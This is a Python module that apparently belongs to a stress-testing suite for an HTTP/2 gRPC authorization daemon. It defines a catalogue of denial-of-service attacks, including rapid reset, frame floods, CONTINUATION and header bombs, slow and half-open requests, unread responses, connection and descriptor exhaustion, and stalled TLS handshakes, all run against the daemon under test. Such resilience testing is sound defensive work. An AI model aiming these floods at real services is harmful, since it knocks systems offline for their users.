"""The attacks: each is a function of the daemon's address that goes on until it is told to stop.

`ATTACKS` names them all, with what the daemon needs for each. They run in a process of their own,
beside honest callers (`scripts.hostile.run`) or all of them in turn beside a full load
(`scripts.soak`).
"""

from __future__ import annotations

import contextlib
import random
import struct
from collections.abc import Callable
from functools import partial
from typing import Protocol

import msgspec

from bench.load import (
    DATA,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from bench.servers import BATCH_CHECK, CHECK, HEALTH, SERVICE
from scripts.hostile import messages
from scripts.hostile.connection import CANCEL, CONTINUATION, Address, Raw, framed

WATCH = HEALTH.replace("Check", "Watch")
STREAM = f"{SERVICE}/CheckStream"
#: How many connections a caller has, and how many calls it tries on each.
CONNECTIONS, CALLS = 12, 100
FLOOD = 3_000
#: RFC 9113, sections 6.1 and 6.3.
PADDED, PRIORITY = 8, 2
_POLICY = 'api health\n\naudience "https://example.com/health-api"\n\n'


class Stop(Protocol):
    """Whether it is enough; an event of threads or of processes."""

    def is_set(self) -> bool: ...

    def wait(self, timeout: float) -> bool: ...


class Target(msgspec.Struct, frozen=True):
    """The daemon: its address, the longest message it takes, and a request and token of a caller
    that it answers."""

    address: Address
    message_bytes: int
    request: bytes
    token: str


class Attack(msgspec.Struct, frozen=True):
    """`policy` is the text of a policy file that it needs, `tls` whether the daemon speaks it, and
    `descriptors` how many the daemon may have."""

    name: str
    run: Callable[[Target, Stop], None]
    policy: str = ""
    tls: bool = False
    descriptors: int = 0


def again(attempt: Callable[[Target], None], pause: float = 0.02) -> Callable[[Target, Stop], None]:
    """Return what tries again and again, whatever the daemon does to it."""

    def run(target: Target, stop: Stop) -> None:
        while not stop.is_set():
            with contextlib.suppress(OSError):
                attempt(target)
            stop.wait(pause)

    return run


# -- messages --------------------------------------------------------------------------------------


def send(path: str, make: Callable[[Target], bytes], target: Target) -> None:
    """Make one call, and wait for its end."""
    raw = Raw(target.address)
    try:
        raw.headers(path)
        raw.send_slowly(framed(make(target)), end=True)
        raw.until_ended(1, 60.0)
    finally:
        raw.close()


def _check(of: messages.CheckOf, target: Target) -> bytes:
    return of(target.message_bytes - 256)


def _empty_items(target: Target) -> bytes:
    return messages.empty_items(target.message_bytes - 256)


def _misspelt(target: Target) -> bytes:
    return messages.misspelt(target.token, _NAMES[1:], 1000)


def _without_scopes(target: Target) -> bytes:
    return messages.batch(target.token, "patient", 1000)


def _names(count: int) -> list[str]:
    words = "patient record document invoice payment account customer order shipment".split()  # noqa: SIM905
    chance = random.Random(1)
    found: set[str] = set()
    while len(found) < count:
        found.add("_".join(chance.choices(words, k=3)))
    return sorted(found)


_NAMES = ["patient", *_names(200)]
_MANY_TYPES = _POLICY + 'scope read:patients "Read"\n\n'
_MANY_TYPES += "".join(f"resource {name} {{\n    actions read\n}}\n\n" for name in _NAMES)
_MANY_TYPES += "".join(
    f"allow r_{name}: read on {name}\n    when scope read:patients\n\n" for name in _NAMES
)
_MANY_SCOPES = _POLICY + "".join(f'scope s{number} "A scope"\n' for number in range(200))
_MANY_SCOPES += "\nresource patient {\n    actions read\n}\n\n"
_MANY_SCOPES += "".join(
    f"allow r{number}: read on patient\n    when scope s{number}\n\n" for number in range(200)
)


# -- frames ----------------------------------------------------------------------------------------


def rapid_reset(
    target: Target,
    stop: Stop,
    *,
    message: bool = False,
    tls: bool = False,
    polite: bool = True,
) -> None:
    """Begin calls and reset each at once."""
    body = framed(target.request)
    while not stop.is_set():
        raw = Raw(target.address, tls=tls, polite=polite)
        try:
            while not stop.is_set():
                for _ in range(100):
                    raw.headers(CHECK.path)
                    if message:
                        raw.data(body, end=True)
                    raw.cancel()
                raw.send()
                raw.hear()
        except OSError:
            stop.wait(0.01)
        finally:
            raw.close()


def flood(
    frames: Callable[[Raw], bytes], target: Target, stop: Stop, *, polite: bool = True
) -> None:
    """Send frames without end, and read little."""
    while not stop.is_set():
        raw = Raw(target.address, polite=polite)
        try:
            raw.send()
            payload = frames(raw)
            while not stop.is_set():
                raw.socket.sendall(payload)
                raw.hear()
        except OSError:
            stop.wait(0.01)
        finally:
            raw.close()


def _settings(_raw: Raw) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 200


def _pings(_raw: Raw) -> bytes:
    return frame(PING, 0, 0, b"12345678") * 200


def _priorities(raw: Raw) -> bytes:
    raw.headers(CHECK.path)
    raw.send()
    return frame(PRIORITY, 0, raw.stream, bytes(5)) * 2_000


def _windows(_raw: Raw) -> bytes:
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 2_000


def _unknown(_raw: Raw) -> bytes:
    return frame(0xFA, 0, 0, bytes(9)) * 2_000


def _empty_data(raw: Raw) -> bytes:
    raw.headers(CHECK.path)
    raw.send()
    return frame(DATA, 0, raw.stream, b"") * 2_000


def _padding(raw: Raw) -> bytes:
    raw.headers(CHECK.path)
    raw.send()
    return frame(DATA, PADDED, raw.stream, bytes([255]) + bytes(255)) * 200


def _indexed(raw: Raw) -> bytes:
    """Headers of which each takes one byte: one of the static table (RFC 7541, section 6.1)."""
    raw.headers(CHECK.path, flags=0)
    raw.send()
    return frame(CONTINUATION, 0, raw.stream, b"\x91" * 16_000) * 8


def _continuations(raw: Raw) -> bytes:
    raw.headers(CHECK.path, flags=0)
    raw.send()
    return frame(CONTINUATION, 0, raw.stream, b"\x00\x01a\x01b" * 800) * 20


def header_bomb(target: Target) -> None:
    """Send headers far past any sane size."""
    raw = Raw(target.address)
    try:
        for _ in range(CALLS):
            raw.stream += 2
            block = b"\x00\x01a\x7f\x81\x7c" + b"b" * 16_000  # a name and a value of 16,000 bytes
            raw.out += frame(HEADERS, END_STREAM, raw.stream, block)
            for _ in range(8):
                raw.out += frame(CONTINUATION, 0, raw.stream, block)
            raw.out += frame(RESET, 0, raw.stream, CANCEL)
        raw.send()
        raw.hear(0.05)
    finally:
        raw.close()


def garbage(target: Target) -> None:
    """Send what is no HTTP/2 over many connections."""
    held = [Raw(target.address) for _ in range(50)]
    for number, raw in enumerate(held):
        with contextlib.suppress(OSError):
            raw.socket.sendall(PREFACE[:-1] if number % 2 else random.Random(number).randbytes(999))
    for raw in held:
        raw.reset()


# -- calls that do not go on -----------------------------------------------------------------------


def hold(
    open_one: Callable[[Raw, Target], None], target: Target, stop: Stop, *, window: int | None = 0
) -> None:
    """Keep many connections full of calls, whose answers may be as long as `window`."""
    held: list[Raw | None] = [None] * CONNECTIONS
    while not stop.is_set():
        for number, raw in enumerate(held):
            try:
                if raw is None:
                    raw = held[number] = Raw(target.address, window=window)
                    for _ in range(CALLS):
                        open_one(raw, target)
                    raw.send()
                ended = raw.ended
                raw.hear()
                for _ in range(raw.ended - ended):
                    open_one(raw, target)
                if raw.out:
                    raw.send()
            except OSError:
                if raw is not None:
                    raw.close()
                held[number] = None
        stop.wait(0.02)
    for raw in held:
        if raw is not None:
            raw.reset()


def _half_open(raw: Raw, _target: Target) -> None:
    raw.headers(CHECK.path)


def _never_read(raw: Raw, target: Target) -> None:
    raw.call(CHECK.path, framed(target.request))


def _expensive_check(raw: Raw, target: Target) -> None:
    raw.call(CHECK.path, framed(messages.denied(target.token, "patient")))


def _large_message(raw: Raw, target: Target) -> None:
    raw.headers(BATCH_CHECK.path)
    raw.send_slowly(framed(messages.batch(target.token, "patient", 1000)), end=True, patience=0.5)


def _idle_stream(raw: Raw, _target: Target) -> None:
    raw.headers(STREAM)


def _unread_watch(raw: Raw, _target: Target) -> None:
    raw.call(WATCH, framed(b""))


def one_byte_short(target: Target, stop: Stop, *, path: str = CHECK.path) -> None:
    """Send all of long messages but their last byte."""
    held: list[Raw] = []
    size = target.message_bytes - 100
    body = struct.pack(">BI", 0, size) + bytes(size - 1)
    while not stop.is_set():
        try:
            raw = Raw(target.address)
            held.append(raw)
            for _ in range(CALLS):
                raw.headers(path)
                if stop.is_set() or raw.send_slowly(body, end=False, patience=0.5) < len(body):
                    break
                raw.hear()
        except OSError:
            stop.wait(0.02)
        if len(held) > CONNECTIONS:
            held.pop(0).close()
    for raw in held:
        raw.reset()


def deaf(target: Target) -> None:
    """Ask for much, and leave the answers in the socket."""
    raw = Raw(target.address, window=2**31 - 1)
    try:
        for _ in range(CALLS):
            raw.call(BATCH_CHECK.path, framed(messages.batch(target.token, "patient", 60)))
        raw.send()
        raw.socket.settimeout(0.5)
        with contextlib.suppress(TimeoutError):
            while True:
                raw.socket.sendall(frame(PING, 0, 0, bytes(8)) * 100)
    finally:
        raw.close()


# -- connections -----------------------------------------------------------------------------------


def connections(
    target: Target, stop: Stop, *, speak: bool, begin: bool = False, count: int = FLOOD
) -> None:
    """Open connections, and keep them; what does not `speak` sends nothing at all.

    Those that `begin` send the first half of a call's headers.
    """
    held: list[Raw] = []
    while not stop.is_set():
        try:
            raw = Raw(target.address)
            if begin:
                raw.headers(CHECK.path, flags=0)
            if speak:
                raw.send()
            held.append(raw)
        except OSError:
            stop.wait(0.01)
        if len(held) > count:
            held.pop(0).reset()
    for raw in held:
        raw.reset()


def half_handshakes(target: Target, stop: Stop) -> None:
    """Begin TLS handshakes that never go on."""
    # A record that promises 512 bytes of a ClientHello, and its beginning (RFC 8446, section 5.1).
    beginning = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)
    held: list[Raw] = []
    while not stop.is_set():
        try:
            raw = Raw(target.address)
            raw.socket.sendall(beginning)
            held.append(raw)
        except OSError:
            stop.wait(0.01)
        if len(held) > FLOOD:
            held.pop(0).reset()
    for raw in held:
        raw.reset()


ATTACKS: tuple[Attack, ...] = (
    *(
        Attack(name, again(partial(send, CHECK.path, partial(_check, of))))
        for name, of in messages.CHECKS.items()
    ),
    Attack("empty batch items", again(partial(send, BATCH_CHECK.path, _empty_items))),
    Attack(
        "a batch of misspelt names",
        again(partial(send, BATCH_CHECK.path, _misspelt)),
        policy=_MANY_TYPES,
    ),
    Attack(
        "a batch without scopes",
        again(partial(send, BATCH_CHECK.path, _without_scopes)),
        policy=_MANY_SCOPES,
    ),
    Attack("rapid reset", rapid_reset),
    Attack("rapid reset, with messages", partial(rapid_reset, message=True)),
    Attack("rapid reset without SETTINGS", partial(rapid_reset, message=True, polite=False)),
    Attack("SETTINGS without end", partial(flood, _settings)),
    Attack("PING without end", partial(flood, _pings)),
    Attack("CONTINUATION without end", partial(flood, _continuations)),
    Attack("CONTINUATION, no SETTINGS", partial(flood, _continuations, polite=False)),
    Attack("headers of a byte each", partial(flood, _indexed, polite=False)),
    Attack("PRIORITY without end", partial(flood, _priorities)),
    Attack("WINDOW_UPDATE without end", partial(flood, _windows)),
    Attack("unknown frames without end", partial(flood, _unknown)),
    Attack("empty DATA without end", partial(flood, _empty_data)),
    Attack("padding without end", partial(flood, _padding)),
    Attack("headers of 100 KB", again(header_bomb)),
    Attack("what is no HTTP/2", again(garbage)),
    Attack("half-open calls", partial(hold, _half_open)),
    Attack("answers never taken", partial(hold, _never_read)),
    Attack("answers left in the socket", again(deaf)),
    Attack(
        "costly checks, many at a time",
        partial(hold, _expensive_check, window=None),
        policy=_MANY_SCOPES,
    ),
    Attack(
        "large batches, many at a time",
        partial(hold, _large_message, window=None),
        policy=_MANY_SCOPES,
    ),
    Attack("messages one byte short", one_byte_short),
    Attack("streams one byte short", partial(one_byte_short, path=STREAM)),
    Attack("idle streams", partial(hold, _idle_stream)),
    Attack("watches never read", partial(hold, _unread_watch)),
    Attack("silent connections", partial(connections, speak=False)),
    Attack("idle connections", partial(connections, speak=True)),
    Attack("half of the headers", partial(connections, speak=True, begin=True)),
    Attack("no descriptors left", partial(connections, speak=True), descriptors=256),
    Attack("half TLS handshakes", half_handshakes, tls=True),
    Attack("rapid reset behind TLS", partial(rapid_reset, tls=True), tls=True),
)
